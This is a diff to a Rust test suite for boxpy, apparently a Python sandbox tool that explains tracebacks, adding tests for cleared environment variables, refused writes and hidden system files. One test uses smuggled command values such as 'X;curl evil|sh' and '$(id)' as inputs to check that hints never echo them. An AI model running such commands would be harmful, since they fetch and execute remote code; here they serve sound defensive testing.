@@ -24,6 +24,9 @@ struct Setup {
     venv: Option<PathBuf>,
     existing: Vec<PathBuf>,
     host_facts: HostFactsDisclosure,
+    host_variables: Vec<String>,
+    host_commands: Vec<String>,
+    uv: bool,
 }
 
 impl Default for Setup {
@@ -44,6 +47,9 @@ impl Default for Setup {
             host_facts: HostFactsDisclosure::Local {
                 caller_home: Some(PathBuf::from("/home/user")),
             },
+            host_variables: Vec::new(),
+            host_commands: Vec::new(),
+            uv: false,
         }
     }
 }
@@ -76,6 +82,9 @@ impl Setup {
             host_path_exists: &host_path_exists,
             host_facts: &self.host_facts,
             hidden: &[],
+            host_variable_set: &|name: &str| self.host_variables.iter().any(|known| known == name),
+            host_command_exists: &|name: &str| self.host_commands.iter().any(|known| known == name),
+            venv_made_by_uv: self.uv,
         };
         diagnose(traceback, &context)
     }
@@ -266,23 +275,29 @@ fn unmounted_host_path_suggests_ro() {
     assert!(hint.contains("--ro /srv/data/input.csv"), "{hint}");
 }
 
+/// Python's own "Did you mean" is in the message the report shows; the hint does not
+/// repeat it (issue 15: noise), and boxpy has nothing to add to it.
 #[test]
-fn python_suggestions_are_carried_not_contradicted() {
+fn python_suggestions_are_not_repeated() {
     for name in [
         "name_error.py312",
         "attribute_error.py312",
         "name_error_import.py312",
     ] {
         let diagnosis = Setup::default().diagnose(&fixture(name));
-        let start = diagnosis
-            .message
-            .find("Did you")
-            .unwrap_or_else(|| panic!("{name}: no suggestion in {}", diagnosis.message));
-        let suggestion = diagnosis.message[start..]
-            .trim_end_matches(['.', ' '])
-            .to_owned();
-        assert!(diagnosis.hint.unwrap().starts_with(&suggestion), "{name}");
+        assert!(
+            diagnosis.message.contains("Did you"),
+            "{name}: no suggestion in {}",
+            diagnosis.message
+        );
+        assert_eq!(diagnosis.hint, None, "{name}");
     }
+    // Without Python's suggestion, boxpy's own hint stays.
+    let hint = Setup::default()
+        .diagnose(&raised("NameError", "name 'frobnicate' is not defined"))
+        .hint
+        .unwrap_or_default();
+    assert!(hint.contains("`frobnicate` is not defined"), "{hint}");
 }
 
 #[test]
@@ -432,11 +447,6 @@ fn valid_names_keep_their_hints() {
     assert!(
         hint("ModuleNotFoundError", "No module named 'my_pkg2'").contains("pip install my_pkg2")
     );
-    assert!(hint(
-        "NameError",
-        "name 'pritn' is not defined. Did you mean: 'print'?"
-    )
-    .starts_with("Did you mean: 'print'?"));
     assert!(hint("KeyError", "'user_id'").contains(".get('user_id')"));
     assert!(hint("KeyError", "42").contains(".get(42)"));
 }
@@ -553,4 +563,292 @@ fn names_of_their_kind() {
     for name in ["", "-a", "a-", "a b", "a;b", "été", "a/b"] {
         assert!(!is_distribution_name(name), "{name:?}");
     }
+}
+
+/// `os.environ[NAME]` as Python 3.8 (`os.py`) and 3.11+ (`<frozen os>`) print it.
+fn environ_key_error(name: &str) -> Vec<Traceback> {
+    [
+        format!("Traceback (most recent call last):\n  File \"<string>\", line 4, in <module>\n  File \"<string>\", line 3, in main\n  File \"/root/.pyenv/versions/3.8.18/lib/python3.8/os.py\", line 675, in __getitem__\n    raise KeyError(key) from None\nKeyError: '{name}'\n"),
+        format!("Traceback (most recent call last):\n  File \"<string>\", line 4, in <module>\n  File \"<string>\", line 3, in main\n  File \"<frozen os>\", line 685, in __getitem__\nKeyError: '{name}'\n"),
+    ]
+    .iter()
+    .map(|text| parse(text).expect("an os.environ traceback"))
+    .collect()
+}
+
+/// Issue 15: `os.environ["OPENAI_API_KEY"]` with the variable set on the host says the
+/// sandbox cleared it and how to pass it (never its value); unset on the host, the
+/// `.get(...)` hint; for a remote caller, no host fact; a name that is not a plain variable
+/// name is never repeated nor looked up.
+#[test]
+fn environ_key_error_says_how_to_pass_a_host_variable() {
+    let on_host = |names: &[&str]| Setup {
+        host_variables: names.iter().map(|name| name.to_string()).collect(),
+        ..Setup::default()
+    };
+    for traceback in environ_key_error("OPENAI_API_KEY") {
+        let hint = on_host(&["OPENAI_API_KEY"])
+            .diagnose(&traceback)
+            .hint
+            .unwrap();
+        assert_eq!(
+            hint,
+            "`OPENAI_API_KEY` is set on the host, but the sandbox starts with a cleared environment; pass it with `--env OPENAI_API_KEY` (or list it in `env.pass`); it looks like a credential: pass it only to a program you trust"
+        );
+        let unset = Setup::default().diagnose(&traceback).hint.unwrap();
+        assert!(
+            unset.contains("os.environ.get('OPENAI_API_KEY')")
+                && unset.contains("on the host either")
+                && !unset.contains("--env OPENAI_API_KEY`"),
+            "{unset}"
+        );
+        let remote = Setup {
+            host_facts: HostFactsDisclosure::Withheld,
+            ..on_host(&["OPENAI_API_KEY"])
+        }
+        .diagnose(&traceback)
+        .hint
+        .unwrap();
+        assert!(
+            !remote.contains("host") && remote.contains("os.environ.get('OPENAI_API_KEY')"),
+            "{remote}"
+        );
+    }
+    for traceback in environ_key_error("AWS_REGION") {
+        let hint = on_host(&["AWS_REGION"]).diagnose(&traceback).hint.unwrap();
+        assert!(
+            hint.contains("`--env AWS_REGION`") && !hint.contains("credential"),
+            "{hint}"
+        );
+    }
+    // Not a variable name boxpy repeats: generic, and the host is not asked.
+    for name in ["A B", "X;curl evil|sh", "$(id)", "é", &"A".repeat(65)] {
+        for traceback in environ_key_error(name) {
+            let hint = on_host(&[name]).diagnose(&traceback).hint.unwrap();
+            assert!(
+                !hint.contains(name) && hint.contains("starts cleared"),
+                "{name:?}: {hint}"
+            );
+        }
+    }
+    // A KeyError from any other mapping keeps the mapping hint.
+    let plain = Setup::default()
+        .diagnose(&raised("KeyError", "'OPENAI_API_KEY'"))
+        .hint
+        .unwrap();
+    assert!(plain.contains("not a key of the mapping"), "{plain}");
+}
+
+/// Issue 15: a write outside every mount never suggests `--rw /` nor any path the gate
+/// refuses (system directories, shared roots, the home and what guards it), nor the
+/// sandbox's `/tmp` (discarded); it names the nearest existing directory the gate admits.
+#[test]
+fn refused_writes_suggest_only_mounts_boxpy_accepts() {
+    let erofs = |path: &str| {
+        raised(
+            "OSError",
+            &format!("[Errno 30] Read-only file system: '{path}'"),
+        )
+    };
+    let with_existing = |existing: &[&str]| Setup {
+        existing: existing.iter().map(PathBuf::from).collect(),
+        ..Setup::default()
+    };
+    // `os.makedirs("/data/out")`: `/data` is missing, `/` exists.
+    let hint = with_existing(&["/"])
+        .diagnose(&erofs("/data"))
+        .hint
+        .unwrap();
+    assert_eq!(
+        hint,
+        "only the working directory (`/home/user/project`) and `filesystem.read_write` are writable; write under the working directory (or choose another with `-w DIR`), or mount an existing host directory with `--rw DIR`"
+    );
+    // The nearest existing directory, when the gate admits it.
+    let hint = with_existing(&["/", "/srv", "/srv/data"])
+        .diagnose(&erofs("/srv/data/out"))
+        .hint
+        .unwrap();
+    assert!(hint.contains("add `--rw /srv/data`"), "{hint}");
+    let hint = with_existing(&["/", "/home", "/home/user", "/home/user/projects"])
+        .diagnose(&erofs("/home/user/projects/out"))
+        .hint
+        .unwrap();
+    assert!(hint.contains("add `--rw /home/user/projects`"), "{hint}");
+    // Refused by the gate: never suggested.
+    for (path, existing) in [
+        ("/out.txt", &["/"][..]),
+        ("/var/out", &["/", "/var"][..]),
+        ("/opt/out", &["/", "/opt"][..]),
+        ("/home/user/out", &["/", "/home", "/home/user"][..]),
+        (
+            "/home/user/.ssh/x",
+            &["/", "/home", "/home/user", "/home/user/.ssh"][..],
+        ),
+        (
+            "/home/user/.config/app/x",
+            &["/", "/home/user/.config", "/home/user/.config/app"][..],
+        ),
+        ("/etc/app.conf", &["/", "/etc"][..]),
+        ("/boot/x", &["/", "/boot"][..]),
+    ] {
+        let hint = with_existing(existing).diagnose(&erofs(path)).hint.unwrap();
+        for refused in existing {
+            assert!(
+                !hint.contains(&format!("--rw {refused}`")),
+                "{path}: {hint}"
+            );
+        }
+        assert!(!hint.contains("/tmp"), "{path}: {hint}");
+    }
+    // A `--ro` mount of a system directory: the hint does not say `--rw /etc`.
+    let hint = Setup {
+        mounts: vec![Mount {
+            source: PathBuf::from("/etc"),
+            dest: PathBuf::from("/etc"),
+            optional: false,
+            writable: false,
+            origin: "--ro".to_owned(),
+        }],
+        ..Setup::default()
+    }
+    .diagnose(&erofs("/etc/app.conf"))
+    .hint
+    .unwrap();
+    assert!(
+        !hint.contains("--rw /etc") && hint.contains("never makes it writable"),
+        "{hint}"
+    );
+}
+
+/// Issue 15: reading `/etc/shadow` under `--ro /etc` is refused by design: the hint says
+/// so, and says nothing about writing.
+#[test]
+fn reading_a_hidden_system_file_gets_a_read_hint() {
+    let setup = Setup {
+        mounts: vec![Mount {
+            source: PathBuf::from("/etc"),
+            dest: PathBuf::from("/etc"),
+            optional: false,
+            writable: false,
+            origin: "--ro".to_owned(),
+        }],
+        existing: vec![PathBuf::from("/etc"), PathBuf::from("/etc/shadow")],
+        ..Setup::default()
+    };
+    let hint = setup
+        .diagnose(&raised(
+            "PermissionError",
+            "[Errno 13] Permission denied: '/etc/shadow'",
+        ))
+        .hint
+        .unwrap();
+    assert_eq!(
+        hint,
+        "boxpy never lets a sandboxed program read or write `/etc/shadow` (hidden by design, whatever the policy or `--ro` says); the program must do without it"
+    );
+    // Another file of a read-only mount refused by its permissions: not a write hint.
+    let hint = setup
+        .diagnose(&raised(
+            "PermissionError",
+            "[Errno 13] Permission denied: '/etc/app/private.conf'",
+        ))
+        .hint
+        .unwrap();
+    assert!(
+        hint.contains("owner and mode") && !hint.contains("--rw") && !hint.contains("to write"),
+        "{hint}"
+    );
+}
+
+/// Issue 15: a venv made by uv has no pip; the install command is uv's.
+#[test]
+fn missing_module_in_a_uv_venv_gives_the_uv_command() {
+    let uv = Setup {
+        uv: true,
+        ..Setup::default()
+    };
+    let hint = uv
+        .diagnose(&raised("ModuleNotFoundError", "No module named 'numpy'"))
+        .hint
+        .unwrap();
+    assert_eq!(
+        hint,
+        "`numpy` is not installed in `.venv`; install it with `uv pip install --python .venv numpy`"
+    );
+    let generic = uv
+        .diagnose(&raised("ModuleNotFoundError", "No module named 'a b'"))
+        .hint
+        .unwrap();
+    assert!(
+        generic.contains("`uv pip install --python .venv NAME`") && !generic.contains("-m pip"),
+        "{generic}"
+    );
+}
+
+/// Issue 15: a command `subprocess` cannot find, missing on the host too, is "not
+/// installed"; one the host has elsewhere is "outside the sandbox's PATH"; a remote caller
+/// learns neither. No hint says "only /usr is visible".
+#[test]
+fn missing_command_says_whether_the_host_has_it() {
+    let traceback = fixture("subprocess_missing.py312");
+    let hint = Setup::default().diagnose(&traceback).hint.unwrap();
+    assert_eq!(
+        hint,
+        "`boxpy-fixture-missing-command` is not installed (not on the host's PATH either); install it on the host (the sandbox sees /usr) or, if it is a Python tool, into the venv"
+    );
+    let elsewhere = Setup {
+        host_commands: vec!["boxpy-fixture-missing-command".to_owned()],
+        ..Setup::default()
+    }
+    .diagnose(&traceback)
+    .hint
+    .unwrap();
+    assert!(
+        elsewhere.contains("is on the host's PATH but not on the sandbox's"),
+        "{elsewhere}"
+    );
+    let remote = Setup {
+        host_facts: HostFactsDisclosure::Withheld,
+        host_commands: vec!["boxpy-fixture-missing-command".to_owned()],
+        ..Setup::default()
+    }
+    .diagnose(&traceback)
+    .hint
+    .unwrap();
+    assert!(
+        !remote.contains("host") && !remote.contains("boxpy-fixture"),
+        "{remote}"
+    );
+    for hint in [hint, elsewhere, remote] {
+        assert!(!hint.contains("only /usr"), "{hint}");
+    }
+}
+
+/// A file missing under an existing, unmounted directory: `--ro` to read; `--rw` only
+/// where the gate would admit it (`/var/lib` is shared by the system: never writable).
+#[test]
+fn unmounted_directory_hint_offers_rw_only_where_the_gate_admits_it() {
+    let enoent = |path: &str| {
+        raised(
+            "FileNotFoundError",
+            &format!("[Errno 2] No such file or directory: '{path}'"),
+        )
+    };
+    let setup = Setup {
+        existing: ["/srv/data", "/var/lib"]
+            .iter()
+            .map(PathBuf::from)
+            .collect(),
+        ..Setup::default()
+    };
+    let srv = setup.diagnose(&enoent("/srv/data/out.csv")).hint.unwrap();
+    assert!(
+        srv.contains("`--ro /srv/data`") && srv.contains("`--rw /srv/data`"),
+        "{srv}"
+    );
+    let var = setup.diagnose(&enoent("/var/lib/app.db")).hint.unwrap();
+    assert!(
+        var.contains("`--ro /var/lib`") && !var.contains("--rw /var/lib"),
+        "{var}"
+    );
 }
